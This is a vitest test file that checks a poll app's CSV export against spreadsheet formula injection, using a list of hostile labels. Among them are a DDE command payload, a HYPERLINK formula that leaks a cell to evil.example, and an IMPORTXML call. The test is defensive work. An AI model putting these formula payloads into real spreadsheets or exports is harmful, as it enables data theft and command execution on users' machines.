/**
 * CSV export safety: a cell that a spreadsheet would run as a formula (it
 * starts with = + - @, tab or carriage return) gets a leading ', and every
 * cell is quoted so that commas, quotes, line breaks, surrounding spaces and
 * any Unicode come back exactly. Checked with a real CSV parser (csv-parse),
 * on the cell function and on an export of polls whose labels are hostile.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { csvCell, csvRow } from '../../server/http/csv.js';
import { startTestServer, type TestServer } from '../support/server.js';
import { createEvent, createPoll, request } from '../support/http.js';

/** What a spreadsheet should show for a label: as is, or with ' when it could run. */
const shown = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);

function parseCsv(text: string): string[][] {
  return parse(text, {
    bom: false,
    relax_column_count: false,
    record_delimiter: '\r\n',
  }) as string[][];
}

const HOSTILE = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  'Yes, absolutely',
  'He said "no"',
  'two\nlines',
  'windows\r\nline',
  '"quoted at the start',
  "'already quoted",
  'Так, звичайно',
  'نعم، بالتأكيد',
  '日本語のラベル',
  'Peace 🕊️ and e\u0301 combining',
  'tab\tinside',
  'ends with a comma,',
];

describe('csvCell', () => {
  test('formula starters get a leading quote; every value round-trips through csv-parse', () => {
    const values = [
      ...HOSTILE,
      '\t=1+1', // tab first
      '\r=1+1', // carriage return first
      '  leading and trailing spaces  ',
      ' =not first, after a space',
      '',
      '=',
    ];
    const text = csvRow(values);
    const [row] = parseCsv(text);
    expect(row).toEqual(values.map(shown));
    // Leading spaces are not a formula start, and they survive (quoted).
    expect(csvCell('  x  ')).toBe('"  x  "');
  });

  test('numbers are numbers: ids are never prefixed, negative or not', () => {
    expect(csvCell(42)).toBe('42');
    expect(csvCell(-1)).toBe('-1');
    expect(csvCell('-1')).toBe("'-1");
  });
});

describe('GET /api/events/:code/export.csv with hostile labels', () => {
  let server: TestServer;
  beforeAll(async () => {
    server = await startTestServer();
  });
  afterAll(() => server.dispose());

  test('csv-parse reads back exactly the labels and questions, with the quote where it is needed', async () => {
    const { code, hostKey } = await createEvent(server.url);
    // Labels and questions are trimmed by the contract, so none starts with a tab or CR here.
    const single = await createPoll(server.url, code, hostKey, {
      question: '=IMPORTXML("http://evil.example","//a")',
      kind: 'single',
      options: HOSTILE,
    });
    const multiple = await createPoll(
      server.url,
      code,
      hostKey,
      {
        question: 'Which, "if any"?\nPick several',
        kind: 'multiple',
        options: HOSTILE.slice(0, 5),
      },
      { active: false },
    );

    const expected: string[][] = [];
    for (const option of single.options) {
      const { body: p } = await request(server.url, 'POST', `/api/events/${code}/participants`);
      const vote = await request(server.url, 'PUT', `/api/events/${code}/polls/${single.id}/vote`, {
        body: { choices: [option.id] },
        token: p.token,
      });
      expect(vote.status).toBe(200);
      expected.push([
        String(single.id),
        shown('=IMPORTXML("http://evil.example","//a")'),
        String(p.participantId),
        shown(option.label),
        vote.body.vote.votedAt,
        'single',
        '',
      ]);
    }
    const { body: p } = await request(server.url, 'POST', `/api/events/${code}/participants`);
    const picks = [multiple.options[0]!, multiple.options[2]!, multiple.options[4]!];
    const vote = await request(server.url, 'PUT', `/api/events/${code}/polls/${multiple.id}/vote`, {
      body: { choices: picks.map((o) => o.id) },
      token: p.token,
    });
    expect(vote.status).toBe(200);
    expected.push([
      String(multiple.id),
      'Which, "if any"?\nPick several',
      String(p.participantId),
      shown(picks.map((o) => o.label).join('; ')),
      vote.body.vote.votedAt,
      'multiple',
      '',
    ]);

    const csv = await request(server.url, 'GET', `/api/events/${code}/export.csv`, {
      token: hostKey,
    });
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const rows = parseCsv(csv.body as string);
    expect(rows[0]).toEqual([
      'poll_id',
      'question',
      'participant_id',
      'choices',
      'voted_at',
      'kind',
      'score',
    ]);
    expect(rows.slice(1)).toEqual(expected);
    // The labels came back exactly as the host wrote them (the ' aside).
    expect(
      rows.slice(1, 1 + HOSTILE.length).map((r) => r[3]!.replace(/^'(?=[=+\-@])/, '')),
    ).toEqual(HOSTILE);
    // No cell that a spreadsheet would evaluate.
    for (const row of rows.slice(1)) {
      for (const cell of [row[1]!, row[3]!]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
